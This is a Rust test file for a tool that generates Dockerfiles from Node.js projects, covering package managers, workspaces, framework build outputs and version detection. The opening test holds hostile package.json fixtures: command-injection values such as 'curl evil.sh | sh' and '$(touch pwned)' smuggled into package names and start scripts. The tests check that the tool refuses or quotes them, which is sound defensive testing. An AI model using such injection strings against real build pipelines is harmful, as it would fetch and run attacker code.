//! Node.js: hostile manifests, package managers, frameworks and workspaces that the
//! examples do not cover (checked as rendered Dockerfiles; the examples are built).

use predicates::prelude::*;

use docksmith::render::verify;

use crate::support::{docksmith, generate_ok, project};

const SERVER: (&str, &str) = (
    "server.js",
    "require('http').createServer((q, s) => s.end('ok')).listen(3000);\n",
);

#[test]
fn hostile_names_and_scripts_are_refused_or_quoted() {
    // A name with a newline cannot be written into a label.
    let dir = project(&[
        (
            "package.json",
            "{\"name\": \"a\\nRUN curl evil.sh | sh\", \"scripts\": {\"start\": \"node server.js\"}}",
        ),
        SERVER,
    ]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "package.json:1: package name `a\\nRUN curl evil.sh | sh` contains a newline",
        ));
    // Quotes and $(...) in a name are quoted in the label, never executed.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"x\\\"$(touch pwned)\", \"scripts\": {\"start\": \"node server.js\"}}",
            ),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains(r#"org.opencontainers.image.title="x\"\$(touch pwned)""#),
        "{dockerfile}"
    );
    // A start script with shell syntax is not turned into a command.
    let (dockerfile, stderr) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"ok\", \"scripts\": {\"start\": \"node server.js; curl evil.sh | sh\"}}",
            ),
            SERVER,
        ],
        &[],
    );
    assert!(
        stderr.contains("scripts.start is a shell command"),
        "{stderr}"
    );
    assert!(dockerfile.contains("CMD [\"server.js\"]"), "{dockerfile}");
    assert!(!dockerfile.contains("evil"), "{dockerfile}");
    // A start file name with a quote is JSON-escaped in the exec form.
    let (dockerfile, _) = generate_ok(
        &[(
            "package.json",
            "{\"name\": \"ok\", \"scripts\": {\"start\": \"node 'it\\\"s.js'\"}}",
        )],
        &[],
    );
    assert!(dockerfile.contains(r#"CMD ["it\"s.js"]"#), "{dockerfile}");
}

#[test]
fn huge_strings_and_invalid_json_are_clear_errors() {
    let long = "x".repeat(500_000);
    let dir = project(&[
        (
            "package.json",
            &format!("{{\"name\": \"{long}\", \"main\": \"server.js\"}}"),
        ),
        SERVER,
    ]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "is 500000 characters long; npm allows 214",
        ));
    let dir = project(&[(
        "package.json",
        &format!(
            "{{\"name\": \"ok\", \"description\": \"{}\"}}",
            "y".repeat(1_100_000)
        ),
    )]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains("package.json: 1100"))
        .stderr(predicate::str::contains("limit for a manifest"));
    let dir = project(&[(
        "package.json",
        "{\n  \"name\": \"ok\",\n  \"scripts\": { \"start\": node server.js }\n}\n",
    )]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "error: package.json:3: invalid JSON",
        ));
    let dir = project(&[(
        "package.json",
        "{\"name\": \"ok\", \"packageManager\": \"npx@1 && curl\"}",
    )]);
    docksmith()
        .arg("detect")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains("packageManager names `npx`"));
}

#[test]
fn package_managers_are_pinned_by_field_or_lockfile_format() {
    let manifest = (
        "package.json",
        "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}}",
    );
    // (lockfiles beside the manifest, what the Dockerfile must say)
    type Case<'a> = (Vec<(&'a str, &'a str)>, &'a [&'a str]);
    let cases: Vec<Case> = vec![
        (
            vec![("pnpm-lock.yaml", "lockfileVersion: '6.0'\n")],
            &[
                "corepack prepare pnpm@8.15.9 --activate",
                "pnpm install --frozen-lockfile --prod --store-dir /pnpm/store",
            ],
        ),
        (
            vec![("pnpm-lock.yaml", "lockfileVersion: '9.0'\n")],
            &["corepack prepare pnpm@9.15.9 --activate"],
        ),
        (
            vec![("yarn.lock", "# yarn lockfile v1\n")],
            &[
                "corepack prepare yarn@1.22.22 --activate",
                "yarn install --frozen-lockfile --production",
            ],
        ),
        (
            vec![
                ("yarn.lock", "__metadata:\n  version: 6\n"),
                (".yarnrc.yml", "nodeLinker: node-modules\n"),
            ],
            &[
                "corepack prepare yarn@3.8.7 --activate",
                // Yarn 3 has no `workspaces focus` without its plugin.
                "yarn install --immutable\n",
            ],
        ),
        (
            vec![
                ("yarn.lock", "__metadata:\n  version: 6\n"),
                (
                    ".yarnrc.yml",
                    "nodeLinker: node-modules\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs\n",
                ),
            ],
            &["yarn workspaces focus --all --production"],
        ),
        (
            vec![("bun.lock", "{}\n")],
            &[
                "FROM oven/bun:1 AS prod-deps",
                "bun install --frozen-lockfile --production",
            ],
        ),
        (vec![("package-lock.json", "{}\n")], &["npm ci --omit=dev"]),
    ];
    for (lockfiles, expected) in cases {
        let mut files = vec![manifest, SERVER];
        files.extend(lockfiles.iter().copied());
        let (dockerfile, _) = generate_ok(&files, &[]);
        for needle in expected {
            assert!(dockerfile.contains(needle), "{needle}:\n{dockerfile}");
        }
    }
    let (dockerfile, stderr) = generate_ok(&[manifest, SERVER], &[]);
    assert!(
        dockerfile.contains("npm install --omit=dev"),
        "{dockerfile}"
    );
    assert!(stderr.contains("no lockfile"), "{stderr}");
    // A packageManager field wins; corepack reads it, nothing to prepare.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"packageManager\": \"pnpm@8.6.0\", \"scripts\": {\"start\": \"node server.js\"}}",
            ),
            SERVER,
            ("pnpm-lock.yaml", "lockfileVersion: '6.0'\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("corepack enable") && !dockerfile.contains("corepack prepare"),
        "{dockerfile}"
    );
}

#[test]
fn a_committed_yarn_release_is_copied_before_the_install() {
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}}",
            ),
            SERVER,
            ("yarn.lock", "__metadata:\n  version: 8\n"),
            (
                ".yarnrc.yml",
                "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.9.2.cjs\n",
            ),
            (".yarn/releases/yarn-4.9.2.cjs", "// yarn\n"),
            (".yarn/plugins/plugin.cjs", "// plugin\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("COPY .yarnrc.yml package.json yarn.lock ./"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("COPY .yarn/releases/yarn-4.9.2.cjs .yarn/releases/"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("COPY .yarn/plugins/plugin.cjs .yarn/plugins/"),
        "{dockerfile}"
    );
    assert!(
        !dockerfile.contains("corepack"),
        "a committed release needs no corepack:\n{dockerfile}"
    );
}

#[test]
fn pnpm_workspaces_filter_the_app_and_ambiguity_is_an_error() {
    let files = [
        ("package.json", "{\"name\": \"mono\", \"private\": true}"),
        (
            "pnpm-workspace.yaml",
            "packages:\n  - 'apps/*'\n  - 'libs/*'\n",
        ),
        ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
        (
            "apps/web/package.json",
            "{\"name\": \"@m/web\", \"scripts\": {\"build\": \"tsc\", \"start\": \"node dist/main.js\"}, \"dependencies\": {\"@m/core\": \"workspace:*\"}}",
        ),
        (
            "apps/web/src/main.ts",
            "require('http').createServer().listen(4000);\n",
        ),
        (
            "apps/admin/package.json",
            "{\"name\": \"@m/admin\", \"scripts\": {\"start\": \"node server.js\"}}",
        ),
        (
            "apps/admin/server.js",
            "require('http').createServer().listen(4001);\n",
        ),
        (
            "libs/core/package.json",
            "{\"name\": \"@m/core\", \"main\": \"index.js\"}",
        ),
        ("libs/core/index.js", "module.exports = {};\n"),
    ];
    let dir = project(&files);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(3)
        .stderr(predicate::str::contains(
            "several apps could be packaged: @m/admin (apps/admin), @m/web (apps/web)",
        ))
        .stderr(predicate::str::contains(
            "hint: choose one with --package @m/admin",
        ));
    let (dockerfile, _) = generate_ok(&files, &["--package", "apps/web"]);
    for needle in [
        "COPY apps/web/package.json apps/web/",
        "COPY libs/core/package.json libs/core/",
        "COPY package.json pnpm-lock.yaml pnpm-workspace.yaml ./",
        "pnpm --filter @m/web... run build",
        "pnpm install --frozen-lockfile --prod --filter @m/web... --store-dir /pnpm/store",
        "COPY --from=build /app/apps/web/dist /app/apps/web/dist/",
        "COPY --from=build /app/libs/core/ /app/libs/core/",
        "WORKDIR /app/apps/web",
        "EXPOSE 4000",
    ] {
        assert!(dockerfile.contains(needle), "{needle}:\n{dockerfile}");
    }
    // Every member's manifest is needed for the install; the other app never reaches
    // the runtime stage.
    assert!(
        dockerfile.contains("COPY apps/admin/package.json apps/admin/"),
        "{dockerfile}"
    );
    let runtime = dockerfile.split("---- runtime").nth(1).unwrap();
    assert!(
        !runtime.contains("apps/admin"),
        "the other app stays out:\n{runtime}"
    );
    docksmith()
        .args(["generate", "--package", "nope"])
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains("flag --package: no app `nope`"));
}

#[test]
fn frameworks_decide_build_outputs_and_start() {
    let lock = ("package-lock.json", "{}\n");
    // Next.js without standalone output (a Next older than the build switch):
    // `next start` with production dependencies.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"n\", \"scripts\": {\"build\": \"next build\", \"start\": \"next start\"}, \"dependencies\": {\"next\": \"^13.1.0\"}}",
            ),
            lock,
            ("next.config.js", "module.exports = {};\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("CMD [\"node_modules/next/dist/bin/next\", \"start\"]"),
        "{dockerfile}"
    );
    // The code stays root's; .next, which Next.js rewrites at run time, is the program's.
    let given: Vec<&str> = dockerfile
        .lines()
        .filter(|l| l.starts_with("COPY --chown="))
        .collect();
    assert_eq!(
        given,
        ["COPY --chown=65532:65532 --from=build /app/.next /app/.next/"],
        "{dockerfile}"
    );
    assert!(dockerfile.contains("npm ci --omit=dev"), "{dockerfile}");
    // Nuxt: the .output folder is self-contained.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"x\", \"scripts\": {\"build\": \"nuxt build\"}, \"dependencies\": {\"nuxt\": \"3\"}}",
            ),
            lock,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("COPY --from=build /app/.output /app/.output/"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("CMD [\".output/server/index.mjs\"]"),
        "{dockerfile}"
    );
    assert!(!dockerfile.contains("prod-deps"), "{dockerfile}");
    // Prisma: generate in the build, the client copied, libssl at run time (slim).
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"p\", \"scripts\": {\"build\": \"tsc\", \"start\": \"node dist/index.js\"}, \"dependencies\": {\"@prisma/client\": \"5\"}, \"devDependencies\": {\"prisma\": \"5\"}}",
            ),
            lock,
            (
                "prisma/schema.prisma",
                "datasource db { provider = \"sqlite\" }\n",
            ),
        ],
        &["--flavor", "slim"],
    );
    for needle in [
        "npx prisma generate",
        "/app/node_modules/.prisma",
        "libssl3",
        "COPY --from=build /app/prisma /app/prisma/",
    ] {
        assert!(dockerfile.contains(needle), "{needle}:\n{dockerfile}");
    }
}

#[test]
fn next_builds_standalone_through_its_environment_unless_the_config_sets_output() {
    let package = |next: &str| {
        format!(
            "{{\"name\": \"n\", \"scripts\": {{\"build\": \"next build\", \"start\": \"next start\"}}, \"dependencies\": {{\"next\": \"{next}\"}}}}"
        )
    };
    let lock = ("package-lock.json", "{}\n");
    let standalone = "COPY --from=build /app/.next/standalone/ /app/";
    let switch = "export NEXT_PRIVATE_STANDALONE=true \\\n    && npm run build";
    // No config, or one that leaves `output` alone: the build sets the switch, the
    // user's file is not touched, and the runtime needs no node_modules install.
    for config in [None, Some("export default { reactStrictMode: true };\n")] {
        for next in ["15.5.29", "^14.2.0", ">=13.4", "16"] {
            let package = package(next);
            let mut files = vec![("package.json", package.as_str()), lock];
            if let Some(text) = config {
                files.push(("next.config.mjs", text));
            }
            let (dockerfile, _) = generate_ok(&files, &[]);
            assert!(dockerfile.contains(switch), "{next}:\n{dockerfile}");
            assert!(dockerfile.contains(standalone), "{next}:\n{dockerfile}");
            assert!(!dockerfile.contains("--omit=dev"), "{next}:\n{dockerfile}");
            // Next's compiler cache survives between builds, outside the layers.
            assert!(
                dockerfile.contains("RUN --mount=type=cache,target=/app/.next/cache \\\n    export NEXT_PRIVATE_STANDALONE"),
                "{next}:\n{dockerfile}"
            );
            // The switch is the build stage's alone.
            let runtime = dockerfile.rsplit("# ---- runtime").next().unwrap();
            assert!(!runtime.contains("NEXT_PRIVATE"), "{dockerfile}");
        }
    }
    // A config that decides `output` itself, in any spelling, and a Next that may be
    // older than the switch: `next start`, no switch.
    let decided = [
        "module.exports = { output: process.env.STANDALONE ? 'standalone' : undefined };\n",
        "const output = 'export';\nexport default { output, images: {} };\n",
        "export default {\n  \"output\": undefined,\n};\n",
    ];
    // Next 15 with one config file.
    let next15 = package("15.5.29");
    let with_config = |name: &str, text: &str| {
        generate_ok(
            &[("package.json", next15.as_str()), lock, (name, text)],
            &[],
        )
        .0
    };
    for config in decided {
        let dockerfile = with_config("next.config.js", config);
        assert!(!dockerfile.contains(switch), "{config}:\n{dockerfile}");
    }
    for next in ["^13.0.0", "latest", "*", "12.3.4"] {
        let package = package(next);
        let (dockerfile, _) = generate_ok(&[("package.json", package.as_str()), lock], &[]);
        assert!(!dockerfile.contains(switch), "{next}:\n{dockerfile}");
        assert!(dockerfile.contains("--omit=dev"), "{next}:\n{dockerfile}");
    }
    // The config's own standalone needs no switch.
    let dockerfile = with_config(
        "next.config.ts",
        "export default { output: \"standalone\" };\n",
    );
    assert!(dockerfile.contains(standalone), "{dockerfile}");
    assert!(!dockerfile.contains(switch), "{dockerfile}");
    // A commented-out `output` is no decision.
    let dockerfile = with_config(
        "next.config.js",
        "module.exports = {\n  // output: 'export',\n};\n",
    );
    assert!(dockerfile.contains(switch), "{dockerfile}");
}

#[test]
fn native_modules_on_alpine_build_on_alpine() {
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"n\", \"scripts\": {\"start\": \"node server.js\"}, \"dependencies\": {\"bcrypt\": \"5\"}}",
            ),
            (
                "package-lock.json",
                "{\"packages\": {\"node_modules/bcrypt\": {\"hasInstallScript\": true}}}\n",
            ),
            SERVER,
        ],
        &["--flavor", "alpine"],
    );
    let summary = verify::verify(&dockerfile).unwrap();
    assert!(
        summary.stages.iter().all(|s| s.base.ends_with("-alpine")),
        "glibc never meets musl:\n{dockerfile}"
    );
    assert!(
        dockerfile.contains("apk add --no-cache g++ make python3"),
        "{dockerfile}"
    );
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"n\", \"scripts\": {\"start\": \"node server.js\"}, \"dependencies\": {\"bcrypt\": \"5\"}}",
            ),
            ("package-lock.json", "{}\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("FROM node:24-bookworm AS prod-deps"),
        "the full image compiles:\n{dockerfile}"
    );
}

#[test]
fn npmrc_is_bind_mounted_and_credentials_are_warned_about() {
    let (dockerfile, stderr) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}}",
            ),
            ("package-lock.json", "{}\n"),
            (".npmrc", "//registry.example.com/:_authToken=secret\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("--mount=type=bind,source=.npmrc,target=.npmrc"),
        "{dockerfile}"
    );
    assert!(!dockerfile.contains("COPY .npmrc"), "{dockerfile}");
    assert!(
        stderr.contains(".npmrc holds registry credentials"),
        "{stderr}"
    );
}

#[test]
fn versions_come_from_version_files_and_engines() {
    let lock = ("package-lock.json", "{}\n");
    let manifest = |engines: &str| {
        format!("{{\"name\": \"a\", \"scripts\": {{\"start\": \"node server.js\"}}{engines}}}")
    };
    let cases = [
        (
            manifest(""),
            vec![(".nvmrc", "lts/iron\n")],
            "node:20-bookworm-slim",
        ),
        (
            manifest(""),
            vec![(".node-version", "v18.20.1\n")],
            "node:18-bookworm-slim",
        ),
        (
            manifest(""),
            vec![(".tool-versions", "python 3.12\nnodejs 22.1.0\n")],
            "node:22-bookworm-slim",
        ),
        (
            manifest(", \"engines\": {\"node\": \">=18 <21\"}"),
            vec![],
            "node:20-bookworm-slim",
        ),
        (
            manifest(", \"volta\": {\"node\": \"20.11.0\"}"),
            vec![],
            "node:20-bookworm-slim",
        ),
    ];
    for (package, files, expected) in cases {
        let mut all = vec![("package.json", package.as_str()), lock, SERVER];
        all.extend(files);
        let (dockerfile, _) = generate_ok(&all, &["--flavor", "slim"]);
        assert!(dockerfile.contains(expected), "{expected}:\n{dockerfile}");
    }
}

#[test]
fn scratch_is_refused_for_node_with_the_reason() {
    let dir = project(&[
        ("package.json", "{\"name\": \"a\", \"main\": \"server.js\"}"),
        SERVER,
    ]);
    docksmith()
        .args(["generate", "--flavor", "scratch"])
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "the scratch flavor cannot run this program: a JavaScript program needs its runtime (node or bun)",
        ))
        .stderr(predicate::str::contains(
            "hint: use --flavor distroless or --flavor slim",
        ));
}

#[test]
fn yarn_plug_n_play_installs_node_modules_with_the_reason() {
    // Plug'n'Play resolves packages from Yarn's cache, which the build keeps in a
    // cache mount: the installs choose the node-modules linker and say why.
    let (dockerfile, stderr) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"packageManager\": \"yarn@4.9.2\", \"main\": \"server.js\"}",
            ),
            ("yarn.lock", "__metadata:\n  version: 8\n"),
            (".yarnrc.yml", "enableTelemetry: false\n"),
            SERVER,
        ],
        &[],
    );
    assert_eq!(
        dockerfile
            .matches("ENV YARN_NODE_LINKER=\"node-modules\"")
            .count(),
        1,
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("yarn workspaces focus --all --production"),
        "{dockerfile}"
    );
    assert!(stderr.contains("Plug'n'Play"), "{stderr}");
    assert!(stderr.contains("node_modules instead"), "{stderr}");
}

#[test]
fn a_build_in_place_prunes_node_modules_from_the_copied_tree() {
    // The start command runs the built tree in place (no output folder is known), so
    // the runtime copies the app's folder from the build stage: its node_modules, dev
    // dependencies included, must go first. The production ones come from their own
    // stage.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"build\": \"node build.js\", \"start\": \"node server.js\"}, \"dependencies\": {\"express\": \"4.21.2\"}}",
            ),
            SERVER,
            ("build.js", "console.log('built');\n"),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains(
            "RUN npm run build \\\n    && find . -name node_modules -type d -prune -exec rm -rf '{}' +\n"
        ),
        "{dockerfile}"
    );
    verify::verify(&dockerfile).expect("valid Dockerfile");
}

#[test]
fn a_start_script_that_runs_another_script_is_followed() {
    for start in [
        "npm run start-server",
        "yarn start-server",
        "pnpm run start-server",
    ] {
        let package = format!(
            "{{\"name\": \"a\", \"scripts\": {{\"start\": \"{start}\", \"start-server\": \"node server/server.js\"}}}}"
        );
        let (dockerfile, _) = generate_ok(
            &[
                ("package.json", &package),
                ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
                ("server/server.js", SERVER.1),
            ],
            &[],
        );
        assert!(
            dockerfile.contains("\"server/server.js\"]"),
            "{start}:\n{dockerfile}"
        );
        assert!(dockerfile.contains("EXPOSE 3000"), "{dockerfile}");
    }
}

#[test]
fn an_nx_serve_start_runs_the_build_output_named_in_project_json() {
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"@api/source\", \"scripts\": {\"start\": \"nx serve\", \"build\": \"nx build\"}, \"dependencies\": {\"express\": \"4.21.2\"}, \"devDependencies\": {\"nx\": \"17.2.6\"}}",
            ),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            (
                "project.json",
                "{\"name\": \"api\", \"targets\": {\"build\": {\"executor\": \"@nx/esbuild:esbuild\", \"options\": {\"outputPath\": \"dist/api\", \"main\": \"src/main.ts\", \"generatePackageJson\": true}}, \"serve\": {\"executor\": \"@nx/js:node\", \"options\": {\"buildTarget\": \"api:build\"}}}}",
            ),
            (
                "src/main.ts",
                "const PORT = process.env.PORT || 3000;\napp.listen(PORT);\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("\"dist/api\"]"), "{dockerfile}");
    assert!(dockerfile.contains("EXPOSE 3000"), "{dockerfile}");
    assert!(dockerfile.contains("RUN npm run build"), "{dockerfile}");
}

#[test]
fn static_builders_read_their_output_folder_from_their_config() {
    // A workspace member runs vite from the root's devDependencies, and its config
    // moves the output to build/.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"root\", \"private\": true, \"workspaces\": [\"web\"], \"devDependencies\": {\"vite\": \"5.4.0\"}}",
            ),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            (
                "web/package.json",
                "{\"name\": \"web\", \"scripts\": {\"build\": \"cross-env X=1 vite build\", \"start\": \"vite\"}}",
            ),
            (
                "web/vite.config.mts",
                "export default defineConfig({\n  build: {\n    outDir: \"build\",\n  },\n});\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("/app/web/build"), "{dockerfile}");
    assert!(dockerfile.contains("nginx"), "{dockerfile}");
    // An outDir outside the member's folder but inside the project
    // (fastapi/full-stack-fastapi-template's `outDir: "../backend/app/frontend"`) is
    // where the site is; one that leaves the project is refused as before.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"root\", \"private\": true, \"workspaces\": [\"web\"], \"devDependencies\": {\"vite\": \"5.4.0\"}}",
            ),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            (
                "web/package.json",
                "{\"name\": \"web\", \"scripts\": {\"build\": \"vite build\"}}",
            ),
            (
                "web/vite.config.ts",
                "export default defineConfig({\n  build: {\n    outDir: \"../server/app/static\",\n  },\n});\n",
            ),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("COPY --from=build /app/server/app/static/ "),
        "{dockerfile}"
    );
    // Angular's application builder writes <outputPath>/browser.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"shop\", \"scripts\": {\"build\": \"ng build\"}, \"dependencies\": {\"@angular/core\": \"19.0.0\"}, \"devDependencies\": {\"@angular/build\": \"19.0.0\"}}",
            ),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            (
                "angular.json",
                "{\"projects\": {\"shop\": {\"architect\": {\"build\": {\"builder\": \"@angular/build:application\", \"options\": {\"outputPath\": \"dist/shop\"}}}}}}",
            ),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("/app/dist/shop/browser"),
        "{dockerfile}"
    );
    // Angular 17-19 name @angular-devkit/build-angular, not @angular/build: the
    // builder in angular.json decides the layout (its webpack `browser` builder
    // writes outputPath itself).
    for (builder, output) in [
        ("application", "/app/dist/shop/browser/ "),
        ("browser", "/app/dist/shop/ "),
        ("browser-esbuild", "/app/dist/shop/ "),
    ] {
        let (dockerfile, _) = generate_ok(
            &[
                (
                    "package.json",
                    "{\"name\": \"shop\", \"scripts\": {\"start\": \"ng serve\", \"build\": \"ng build\"}, \"dependencies\": {\"@angular/core\": \"19.0.0\"}, \"devDependencies\": {\"@angular-devkit/build-angular\": \"19.0.0\"}}",
                ),
                ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
                (
                    "angular.json",
                    &format!(
                        "{{\"projects\": {{\"shop\": {{\"architect\": {{\"build\": {{\"builder\": \"@angular-devkit/build-angular:{builder}\", \"options\": {{\"outputPath\": \"dist/shop\"}}}}}}}}}}}}"
                    ),
                ),
            ],
            &[],
        );
        assert!(dockerfile.contains(output), "{builder}: {dockerfile}");
    }
}

#[test]
fn react_router_in_spa_mode_is_a_static_site() {
    // `ssr: false` in react-router.config: the client build is the app (no server
    // build, no @react-router/serve); `ssr: true` (or a commented-out false) is not.
    let package = (
        "package.json",
        "{\"name\": \"spa\", \"type\": \"module\", \"scripts\": {\"build\": \"react-router build\", \"dev\": \"react-router dev\"}, \"dependencies\": {\"react-router\": \"7.9.0\"}, \"devDependencies\": {\"@react-router/dev\": \"7.9.0\", \"vite\": \"6\"}}",
    );
    let lock = ("package-lock.json", "{\"lockfileVersion\": 3}\n");
    let config = "react-router.config.ts";
    let (dockerfile, _) = generate_ok(
        &[
            package,
            lock,
            (config, "export default {\n  ssr: false,\n};\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("COPY --from=build /app/build/client/ /usr/share/nginx/html/"),
        "{dockerfile}"
    );
    let (dockerfile, _) = generate_ok(
        &[
            package,
            lock,
            (config, "export default {\n  // ssr: false,\n};\n"),
        ],
        &[],
    );
    assert!(!dockerfile.contains("build/client"), "{dockerfile}");
}

#[test]
fn angular_server_rendering_runs_the_server_its_output_path_holds() {
    // @angular/ssr with Express beside it: the Angular server, not an Express app
    // started by `ng serve` (a dev server) nor a static site whose index.html the
    // build does not write; the entry follows angular.json's outputPath.
    let package = (
        "package.json",
        "{\"name\": \"shop\", \"scripts\": {\"start\": \"ng serve\", \"build\": \"ng build\", \"serve:ssr:shop\": \"node build/shop/server/server.mjs\"}, \"dependencies\": {\"@angular/core\": \"19.2.0\", \"@angular/ssr\": \"19.2.0\", \"express\": \"4.21.2\"}, \"devDependencies\": {\"@angular/build\": \"19.2.0\"}}",
    );
    let (dockerfile, stderr) = generate_ok(
        &[
            package,
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            (
                "angular.json",
                "{\"projects\": {\"shop\": {\"architect\": {\"build\": {\"builder\": \"@angular/build:application\", \"options\": {\"outputPath\": \"build/shop\", \"ssr\": {\"entry\": \"src/server.ts\"}}}}}}}",
            ),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("CMD [\"build/shop/server/server.mjs\"]"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("EXPOSE 4000"), "{dockerfile}");
    assert!(!dockerfile.contains("nginx"), "{dockerfile}");
    // Its server checks the Host header: said until angular.json names the hosts.
    assert!(stderr.contains("set NG_ALLOWED_HOSTS"), "{stderr}");
    let (_, stderr) = generate_ok(
        &[
            package,
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            (
                "angular.json",
                "{\"projects\": {\"shop\": {\"architect\": {\"build\": {\"options\": {\"outputPath\": \"dist/shop\", \"security\": {\"allowedHosts\": [\"shop.example.com\"]}}}}}}}",
            ),
        ],
        &[],
    );
    assert!(!stderr.contains("NG_ALLOWED_HOSTS"), "{stderr}");
}

#[test]
fn committed_node_modules_are_source_scanned_and_never_pruned() {
    // node-red commits its packages under packages/node_modules and says so in
    // .gitignore; type declarations there are not code.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"red\", \"scripts\": {\"build\": \"node build.js\", \"start\": \"node packages/node_modules/red/red.js\"}, \"dependencies\": {\"express\": \"4.21.2\"}}",
            ),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            (".gitignore", "node_modules\n!packages/node_modules\n"),
            ("build.js", "console.log('built');\n"),
            (
                "packages/node_modules/red/red.js",
                "require('./settings.js');\n",
            ),
            (
                "packages/node_modules/red/settings.js",
                "module.exports = { uiPort: process.env.PORT || 1880 };\n",
            ),
            (
                "packages/node_modules/red/types/hooks.d.ts",
                "// server.listen(\"0.0.0.0:3000\")\nexport function listen(p: 3000): void;\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("EXPOSE 1880"), "{dockerfile}");
    assert!(
        dockerfile.contains("find . -path ./packages/node_modules -prune -o -name node_modules"),
        "{dockerfile}"
    );
}

#[test]
fn dev_only_test_tools_skip_their_browser_downloads() {
    // Cypress only for tests: its install script would download a browser the image
    // never runs (and that fails where download.cypress.io is unreachable).
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}, \"dependencies\": {\"express\": \"4.21.2\"}, \"devDependencies\": {\"cypress\": \"13.17.0\"}}",
            ),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("ENV CYPRESS_INSTALL_BINARY=\"0\""),
        "{dockerfile}"
    );
    // Puppeteer as a production dependency renders pages at run time: it keeps its browser.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}, \"dependencies\": {\"puppeteer\": \"23.0.0\"}}",
            ),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        !dockerfile.contains("PUPPETEER_SKIP_DOWNLOAD"),
        "{dockerfile}"
    );
}

#[test]
fn install_time_scripts_of_the_project_are_skipped_and_dependencies_rebuilt() {
    // `prepare: husky` needs a dev tool; a native dependency still builds, by name.
    let (dockerfile, stderr) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"prepare\": \"husky\", \"start\": \"node server.js\"}, \"dependencies\": {\"bcrypt\": \"5.1.1\"}, \"devDependencies\": {\"husky\": \"9.1.7\"}}",
            ),
            (
                "package-lock.json",
                "{\"lockfileVersion\": 3, \"packages\": {\"\": {\"hasInstallScript\": true}, \"node_modules/bcrypt\": {\"version\": \"5.1.1\", \"hasInstallScript\": true}}}\n",
            ),
            SERVER,
        ],
        &[],
    );
    assert!(
